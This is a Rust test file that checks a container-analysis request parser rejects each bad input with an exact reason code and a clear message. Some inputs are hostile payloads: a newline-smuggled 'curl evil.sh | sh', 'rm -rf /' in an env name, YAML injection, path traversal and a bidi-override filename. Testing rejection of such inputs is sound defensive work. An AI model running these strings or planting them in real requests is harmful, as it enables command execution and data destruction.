//! The bad-input catalogue: every way a request can be wrong, each with its exact reason code and
//! a message that names the field at fault.

mod common;

use common::*;
use libtest_mimic::{Arguments, Failed, Trial};
use serde_json::{Value, json};
use vexxy_events::{FailureReason as R, ValidationPolicy, parse_request};

struct Case {
    name: &'static str,
    body: Vec<u8>,
    policy: ValidationPolicy,
    reason: R,
    /// Must appear in the message: the field at fault, or the key fact the user needs.
    mentions: &'static [&'static str],
}

fn case(name: &'static str, body: Value, reason: R, mentions: &'static [&'static str]) -> Case {
    Case {
        name,
        body: bytes(&body),
        policy: ValidationPolicy::default(),
        reason,
        mentions,
    }
}

fn raw(name: &'static str, body: &[u8], reason: R, mentions: &'static [&'static str]) -> Case {
    Case {
        name,
        body: body.to_vec(),
        policy: ValidationPolicy::default(),
        reason,
        mentions,
    }
}

fn env(variables: Value) -> Value {
    with_config(json!({ "environment": variables }))
}

fn catalogue() -> Vec<Case> {
    let many_env: serde_json::Map<String, Value> =
        (0..65).map(|i| (format!("VAR_{i}"), json!("x"))).collect();
    let many_labels: serde_json::Map<String, Value> =
        (0..33).map(|i| (format!("k{i}"), json!("v"))).collect();
    let many_args: Vec<String> = (0..65).map(|i| format!("--flag-{i}")).collect();
    let many_ports: Vec<u32> = (1..=33).map(|i| 8000 + i).collect();
    let mut labelled = minimal();
    let small_policy = ValidationPolicy {
        max_request_bytes: 100,
        ..ValidationPolicy::default()
    };
    let allowlist_policy = ValidationPolicy {
        registry_allowlist: vec!["ghcr.io".into(), "quay.io".into()],
        ..ValidationPolicy::default()
    };
    labelled["labels"] = json!({"team": "payments\nadmin: true"});

    vec![
        // --- size, encoding, syntax ---
        Case {
            name: "payload over the limit",
            body: bytes(&env(json!({"BIG": "x".repeat(200)}))),
            policy: small_policy,
            reason: R::PayloadTooLarge,
            mentions: &["bytes", "limit is 100"],
        },
        raw(
            "non-UTF-8 body",
            b"{\"image_ref\": \"\xff\xfe\"}",
            R::MalformedRequest,
            &["UTF-8"],
        ),
        raw(
            "truncated JSON",
            b"{\"image_ref\": ",
            R::MalformedRequest,
            &["not valid JSON"],
        ),
        raw(
            "trailing garbage",
            b"{\"image_ref\": \"nginx\"} x",
            R::MalformedRequest,
            &["JSON"],
        ),
        raw("empty body", b"", R::MalformedRequest, &["not valid JSON"]),
        raw(
            "duplicate key smuggling",
            format!(
                r#"{{"image_ref":"ghcr.io/a/b","image_ref":"evil.io/x","image_digest":"{DIGEST}"}}"#
            )
            .as_bytes(),
            R::MalformedRequest,
            &["duplicate key `image_ref`"],
        ),
        case(
            "body is an array",
            json!([minimal()]),
            R::InvalidRequest,
            &["JSON object"],
        ),
        case(
            "body is a string",
            json!("ghcr.io/owner/repo"),
            R::InvalidRequest,
            &["JSON object"],
        ),
        // --- structure ---
        case(
            "image_ref has the wrong type",
            json!({"image_ref": 42, "image_digest": DIGEST}),
            R::InvalidRequest,
            &["`image_ref`", "string"],
        ),
        case(
            "missing image_ref",
            json!({"image_digest": DIGEST}),
            R::MissingField,
            &["image_ref"],
        ),
        case(
            "unknown top-level field",
            json!({"imageRef": "nginx", "image_digest": DIGEST}),
            R::UnknownField,
            &["`imageRef`", "Did you mean `image_ref`"],
        ),
        case(
            "misspelt config field",
            with_config(json!({"analysis_duraton": 600})),
            R::UnknownField,
            &[
                "config.analysis_duraton",
                "Did you mean `config.analysis_duration`",
            ],
        ),
        case(
            "config is not an object",
            with_config(json!("fast")),
            R::InvalidRequest,
            &["`config`", "object"],
        ),
        // --- image reference and digest ---
        case(
            "tag-only reference",
            json!({"image_ref": "nginx:1.25"}),
            R::MissingDigest,
            &[
                "digest-pinned",
                "crane digest",
                "docker buildx imagetools inspect",
            ],
        ),
        case(
            "uppercase digest",
            json!({"image_ref": "nginx", "image_digest": DIGEST.to_uppercase().replace("SHA256", "sha256")}),
            R::InvalidDigest,
            &["image_digest", "lowercase"],
        ),
        case(
            "sha512 digest",
            json!({"image_ref": "nginx", "image_digest": format!("sha512:{}", "a".repeat(128))}),
            R::InvalidDigest,
            &["image_digest", "sha512"],
        ),
        case(
            "short digest",
            json!({"image_ref": "nginx", "image_digest": "sha256:abc123"}),
            R::InvalidDigest,
            &["image_digest", "64"],
        ),
        case(
            "digest without algorithm",
            json!({"image_ref": "nginx", "image_digest": "a".repeat(64)}),
            R::InvalidDigest,
            &["image_digest", "sha256:"],
        ),
        case(
            "conflicting digests",
            json!({"image_ref": format!("nginx@{DIGEST}"), "image_digest": OTHER_DIGEST}),
            R::InvalidDigest,
            &["image_digest", "conflicts", "image_ref"],
        ),
        case(
            "bad digest inside the reference",
            json!({"image_ref": "nginx@sha256:1234"}),
            R::InvalidDigest,
            &["image_ref", "64"],
        ),
        case(
            "reference with a space",
            json!({"image_ref": "ghcr.io/owner/my app", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref", "space"],
        ),
        case(
            "reference with a newline",
            json!({"image_ref": "ghcr.io/owner/app\nkind: Secret", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref", "newline"],
        ),
        case(
            "uppercase repository",
            json!({"image_ref": "ghcr.io/Owner/Repo", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref", "lowercase", "owner"],
        ),
        case(
            "registry with an impossible port",
            json!({"image_ref": "registry.local:99999/app", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref registry", "registry.local:99999"],
        ),
        case(
            "registry host with underscore",
            json!({"image_ref": "my_registry.io/app", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref registry"],
        ),
        case(
            "bad tag",
            json!({"image_ref": "nginx:-latest", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref tag", "-latest"],
        ),
        case(
            "empty path component",
            json!({"image_ref": "ghcr.io/owner//repo", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref", "path component"],
        ),
        case(
            "empty reference",
            json!({"image_ref": "", "image_digest": DIGEST}),
            R::InvalidImageRef,
            &["image_ref"],
        ),
        Case {
            name: "registry not on the allowlist",
            body: bytes(&json!({"image_ref": "nginx", "image_digest": DIGEST})),
            policy: allowlist_policy,
            reason: R::RegistryNotAllowed,
            mentions: &["docker.io", "allowlist", "ghcr.io, quay.io"],
        },
        // --- environment ---
        case(
            "env name starting with a digit",
            env(json!({"1PORT": "80"})),
            R::InvalidEnvironment,
            &["config.environment", "1PORT"],
        ),
        case(
            "env name with a dash",
            env(json!({"MY-VAR": "x"})),
            R::InvalidEnvironment,
            &["config.environment", "MY-VAR"],
        ),
        case(
            "env name with shell syntax",
            env(json!({"A;rm -rf /": "x"})),
            R::InvalidEnvironment,
            &["config.environment"],
        ),
        case(
            "env value with YAML injection",
            env(json!({"GREETING": "hi\n---\nkind: ClusterRoleBinding"})),
            R::InvalidEnvironment,
            &["config.environment.GREETING", "newline"],
        ),
        case(
            "env value with carriage return",
            env(json!({"LOG": "ok\r[admin] granted"})),
            R::InvalidEnvironment,
            &["config.environment.LOG", "carriage return"],
        ),
        case(
            "env value with NUL",
            env(json!({"PATHX": "/bin\u{0}/evil"})),
            R::InvalidEnvironment,
            &["config.environment.PATHX", "NUL"],
        ),
        case(
            "env value with terminal escape",
            env(json!({"X": "\u{1b}[2J"})),
            R::InvalidEnvironment,
            &["config.environment.X", "escape"],
        ),
        case(
            "env value with bidi override",
            env(json!({"X": "safe\u{202E}txt.exe"})),
            R::InvalidEnvironment,
            &["config.environment.X", "U+202E"],
        ),
        case(
            "too many env vars",
            env(Value::Object(many_env)),
            R::InvalidEnvironment,
            &["config.environment", "64"],
        ),
        case(
            "env value too long",
            env(json!({"BLOB": "x".repeat(8 * 1024 + 1)})),
            R::InvalidEnvironment,
            &["config.environment.BLOB", "8192"],
        ),
        case(
            "env value is a number",
            env(json!({"PORT": 8080})),
            R::InvalidRequest,
            &["config.environment.PORT", "string"],
        ),
        case(
            "environment is a list",
            env(json!(["PORT=8080"])),
            R::InvalidRequest,
            &["config.environment", "object"],
        ),
        // --- command and args ---
        case(
            "empty command",
            with_config(json!({"command": []})),
            R::InvalidCommand,
            &["config.command", "entrypoint"],
        ),
        case(
            "command with empty program",
            with_config(json!({"command": [""]})),
            R::InvalidCommand,
            &["config.command[0]"],
        ),
        case(
            "shell injection through a newline",
            with_config(json!({"command": ["/bin/sh", "-c", "echo hi\ncurl evil.sh | sh"]})),
            R::InvalidCommand,
            &["config.command[2]", "newline"],
        ),
        case(
            "too many args",
            with_config(json!({"args": many_args})),
            R::InvalidCommand,
            &["config.args", "64"],
        ),
        case(
            "arg too long",
            with_config(json!({"args": ["x".repeat(4097)]})),
            R::InvalidCommand,
            &["config.args[0]", "4096"],
        ),
        case(
            "command is a string",
            with_config(json!({"command": "/app --serve"})),
            R::InvalidRequest,
            &["config.command", "array"],
        ),
        case(
            "arg is a number",
            with_config(json!({"args": ["--port", 8080]})),
            R::InvalidRequest,
            &["config.args[1]", "string"],
        ),
        // --- ports ---
        case(
            "port above 65535",
            with_config(json!({"ports": [70000]})),
            R::InvalidPorts,
            &["config.ports[0]", "65535"],
        ),
        case(
            "negative port",
            with_config(json!({"ports": [80, -1]})),
            R::InvalidPorts,
            &["config.ports[1]", "-1"],
        ),
        case(
            "port zero",
            with_config(json!({"ports": [0]})),
            R::InvalidPorts,
            &["config.ports[0]"],
        ),
        case(
            "fractional port",
            with_config(json!({"ports": [80.5]})),
            R::InvalidPorts,
            &["config.ports[0]"],
        ),
        case(
            "duplicate port",
            with_config(json!({"ports": [8080, 8080]})),
            R::InvalidPorts,
            &["config.ports", "8080", "more than once"],
        ),
        case(
            "too many ports",
            with_config(json!({"ports": many_ports})),
            R::InvalidPorts,
            &["config.ports", "32"],
        ),
        case(
            "port is a string",
            with_config(json!({"ports": ["8080"]})),
            R::InvalidRequest,
            &["config.ports[0]"],
        ),
        // --- duration ---
        case(
            "zero duration",
            with_config(json!({"analysis_duration": 0})),
            R::InvalidDuration,
            &["config.analysis_duration", "zero", "60 to 86400"],
        ),
        case(
            "negative duration",
            with_config(json!({"analysis_duration": -300})),
            R::InvalidDuration,
            &["config.analysis_duration", "negative", "60 to 86400"],
        ),
        case(
            "fractional duration",
            with_config(json!({"analysis_duration": 30.5})),
            R::InvalidDuration,
            &["config.analysis_duration", "fractional"],
        ),
        case(
            "duration as a string",
            with_config(json!({"analysis_duration": "300"})),
            R::InvalidDuration,
            &["config.analysis_duration", "\"300\"", "60 to 86400"],
        ),
        case(
            "huge duration",
            with_config(json!({"analysis_duration": 1e30})),
            R::InvalidDuration,
            &["config.analysis_duration", "too large", "60 to 86400"],
        ),
        case(
            "duration above u64",
            with_config(json!({"analysis_duration": 18446744073709551616.0_f64})),
            R::InvalidDuration,
            &["config.analysis_duration"],
        ),
        case(
            "duration just above the maximum",
            with_config(json!({"analysis_duration": 86401})),
            R::InvalidDuration,
            &["config.analysis_duration", "86401"],
        ),
        case(
            "duration below the minimum",
            with_config(json!({"analysis_duration": 10})),
            R::InvalidDuration,
            &["config.analysis_duration", "10"],
        ),
        // --- job id ---
        case(
            "uppercase job id",
            json!({"job_id": "Job-1", "image_ref": "nginx", "image_digest": DIGEST}),
            R::InvalidJobId,
            &["job_id", "Job-1"],
        ),
        case(
            "path traversal job id",
            json!({"job_id": "../../etc", "image_ref": "nginx", "image_digest": DIGEST}),
            R::InvalidJobId,
            &["job_id"],
        ),
        case(
            "job id too long",
            json!({"job_id": "a".repeat(41), "image_ref": "nginx", "image_digest": DIGEST}),
            R::InvalidJobId,
            &["job_id", "1-40"],
        ),
        case(
            "job id is a number",
            json!({"job_id": 7, "image_ref": "nginx", "image_digest": DIGEST}),
            R::InvalidRequest,
            &["`job_id`", "string"],
        ),
        // --- labels ---
        case(
            "label value with a newline",
            labelled,
            R::InvalidLabels,
            &["labels.team", "newline"],
        ),
        case(
            "label key with a space",
            json!({"image_ref": "nginx", "image_digest": DIGEST, "labels": {"my team": "x"}}),
            R::InvalidLabels,
            &["labels key", "my team"],
        ),
        case(
            "label value too long",
            json!({"image_ref": "nginx", "image_digest": DIGEST, "labels": {"team": "x".repeat(257)}}),
            R::InvalidLabels,
            &["labels.team", "256"],
        ),
        case(
            "too many labels",
            json!({"image_ref": "nginx", "image_digest": DIGEST, "labels": many_labels}),
            R::InvalidLabels,
            &["labels", "32"],
        ),
        case(
            "label value is a boolean",
            json!({"image_ref": "nginx", "image_digest": DIGEST, "labels": {"prod": true}}),
            R::InvalidRequest,
            &["labels.prod", "string"],
        ),
        // --- CloudEvents envelope ---
        case(
            "CloudEvent with specversion 0.3",
            {
                let mut e = cloud_event(minimal());
                e["specversion"] = json!("0.3");
                e
            },
            R::UnsupportedEvent,
            &["specversion", "0.3", "1.0"],
        ),
        case(
            "CloudEvent with a numeric specversion",
            {
                let mut e = cloud_event(minimal());
                e["specversion"] = json!(1.0);
                e
            },
            R::UnsupportedEvent,
            &["specversion"],
        ),
        case(
            "CloudEvent of the wrong type",
            {
                let mut e = cloud_event(minimal());
                e["type"] = json!("io.vexxy.analysis.completed.v1");
                e
            },
            R::UnsupportedEvent,
            &["type", "io.vexxy.analysis.requested.v1"],
        ),
        case(
            "CloudEvent of a future version",
            {
                let mut e = cloud_event(minimal());
                e["type"] = json!("io.vexxy.analysis.requested.v2");
                e
            },
            R::UnsupportedEvent,
            &["requested.v2"],
        ),
        case(
            "CloudEvent without data",
            {
                let mut e = cloud_event(minimal());
                e.as_object_mut().unwrap().remove("data");
                e
            },
            R::MissingField,
            &["`data`"],
        ),
        case(
            "CloudEvent without source",
            {
                let mut e = cloud_event(minimal());
                e.as_object_mut().unwrap().remove("source");
                e
            },
            R::MissingField,
            &["`source`"],
        ),
        case(
            "CloudEvent with base64 data",
            {
                let mut e = cloud_event(minimal());
                e.as_object_mut().unwrap().remove("data");
                e["data_base64"] = json!("e30=");
                e
            },
            R::UnsupportedEvent,
            &["data_base64"],
        ),
        case(
            "CloudEvent with text data",
            {
                let mut e = cloud_event(minimal());
                e["datacontenttype"] = json!("text/plain");
                e
            },
            R::UnsupportedEvent,
            &["datacontenttype", "text/plain"],
        ),
        case(
            "CloudEvent data is a string",
            cloud_event(json!("nginx")),
            R::InvalidRequest,
            &["`data`", "string"],
        ),
        case(
            "CloudEvent data with an unknown field",
            cloud_event(json!({"image": "nginx", "image_digest": DIGEST})),
            R::UnknownField,
            &["`image`"],
        ),
        case(
            "CloudEvent data with a bad digest",
            cloud_event(json!({"image_ref": "nginx", "image_digest": "sha256:xyz"})),
            R::InvalidDigest,
            &["image_digest"],
        ),
    ]
}

/// What every bad request must get: a rejection (never an acceptance) with the case's exact
/// reason, a message naming the field at fault, readable as one line and long enough to say what
/// to do — and the same answer every time.
fn check_case(case: &Case) -> Result<(), Failed> {
    let rejection = match parse_request(&case.body, Some("msg-1"), &case.policy) {
        Ok(accepted) => return Err(format!("accepted as {accepted:?}").into()),
        Err(rejection) => rejection,
    };
    let mut wrong = Vec::new();
    if rejection.reason != case.reason {
        wrong.push(format!(
            "reason {} (expected {})",
            rejection.reason, case.reason
        ));
    }
    for needle in case.mentions {
        if !rejection.message.contains(needle) {
            wrong.push(format!("the message does not mention {needle:?}"));
        }
    }
    if rejection.message.chars().any(|c| c.is_control()) {
        wrong.push("the message carries a raw control character".to_string());
    }
    if rejection.message.len() < 30 {
        wrong.push("the message is too terse to act on".to_string());
    }
    let again = parse_request(&case.body, Some("msg-1"), &case.policy);
    if again.as_ref().err() != Some(&rejection) {
        wrong.push(format!("a second parse answered differently: {again:?}"));
    }
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(format!("{} — message: {}", wrong.join("; "), rejection.message).into())
    }
}

/// The test name of a case: its description in snake case.
fn test_name(case: &Case) -> String {
    let mut name = String::new();
    for c in case.name.chars() {
        if c.is_ascii_alphanumeric() {
            name.push(c.to_ascii_lowercase());
        } else if !name.ends_with('_') {
            name.push('_');
        }
    }
    format!("case::{}", name.trim_end_matches('_'))
}

fn the_catalogue_is_large_and_its_test_names_unique() -> Result<(), Failed> {
    let cases = catalogue();
    if cases.len() < 30 {
        return Err(format!("the catalogue shrank to {} cases", cases.len()).into());
    }
    let mut names: Vec<String> = cases.iter().map(test_name).collect();
    names.sort();
    let before = names.len();
    names.dedup();
    if names.len() != before {
        return Err("two cases share a test name; describe them differently".into());
    }
    Ok(())
}

fn rejections_carry_what_could_be_read_for_correlation() {
    let body = json!({"image_ref": "ghcr.io/owner/repo:1.0", "labels": {"team": "payments"}});
    let rejection =
        parse_request(&bytes(&body), Some("build-9"), &ValidationPolicy::default()).unwrap_err();
    assert_eq!(rejection.reason, R::MissingDigest);
    assert_eq!(
        rejection.image_ref.as_deref(),
        Some("ghcr.io/owner/repo:1.0")
    );
    assert_eq!(
        rejection.job_id,
        Some(vexxy_events::derive_job_id(b"", Some("build-9")))
    );
    assert_eq!(
        rejection.labels.get("team").map(String::as_str),
        Some("payments")
    );

    let body = json!({"job_id": "release-7", "image_ref": format!("nginx@{DIGEST}"), "config": {"ports": [0]}});
    let rejection = parse(&body).unwrap_err();
    assert_eq!(rejection.job_id.as_deref(), Some("release-7"));
    assert_eq!(rejection.image_digest.as_deref(), Some(DIGEST));

    // An invalid job id is not echoed: it is not an id anything else can be found under.
    let body = json!({"job_id": "Bad Id", "image_ref": "nginx", "image_digest": DIGEST});
    assert_eq!(parse(&body).unwrap_err().job_id, None);

    // Values with control characters are not echoed, and broken labels are left out.
    let body = json!({"image_ref": "nginx\u{1b}[2J", "labels": {"x": "a\nb"}});
    let rejection = parse(&body).unwrap_err();
    assert_eq!(rejection.image_ref, None);
    assert!(rejection.labels.is_empty());

    // Even a body that is not JSON gets the id derived from its message, so a redelivery of it
    // is recognisable.
    let rejection = parse_request(b"\xff", Some("m-1"), &ValidationPolicy::default()).unwrap_err();
    assert_eq!(
        rejection.job_id,
        Some(vexxy_events::derive_job_id(b"", Some("m-1")))
    );
}

/// Every catalogue case is a test of its own (`case::<description>`), so a run names each bad
/// input that passed or failed and one can be run alone (`cargo test -p vexxy-events --test
/// bad_requests -- case::empty_body`).
fn main() {
    let arguments = Arguments::from_args();
    let mut trials = vec![
        Trial::test(
            "the_catalogue_is_large_and_its_test_names_unique",
            the_catalogue_is_large_and_its_test_names_unique,
        ),
        Trial::test(
            "rejections_carry_what_could_be_read_for_correlation",
            || {
                rejections_carry_what_could_be_read_for_correlation();
                Ok(())
            },
        ),
    ];
    trials.extend(
        catalogue()
            .into_iter()
            .map(|case| Trial::test(test_name(&case), move || check_case(&case))),
    );
    libtest_mimic::run(&arguments, trials).exit();
}
